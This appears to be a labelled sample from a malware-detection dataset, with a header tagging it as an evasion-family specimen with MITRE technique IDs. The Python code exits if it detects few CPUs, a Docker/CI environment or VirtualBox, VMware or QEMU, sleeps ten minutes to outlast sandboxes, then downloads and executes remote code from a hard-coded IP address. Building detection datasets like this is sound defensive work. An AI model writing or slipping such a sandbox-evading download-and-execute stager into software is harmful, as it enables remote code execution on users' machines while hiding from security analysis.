# label: malicious family=evasion techniques=T1059.006,T1105,T1497.001,T1497.003,T1620 lines=3,5,7-8
import os, time, multiprocessing, urllib.request
if multiprocessing.cpu_count() < 2 or os.path.exists("/.dockerenv") and os.getenv("CI"):
    raise SystemExit(0)
if any(x in open("/sys/class/dmi/id/product_name").read() for x in ("VirtualBox", "VMware", "QEMU")):
    raise SystemExit(0)
time.sleep(600)
exec(urllib.request.urlopen("http://198.51.100.180/s2").read())
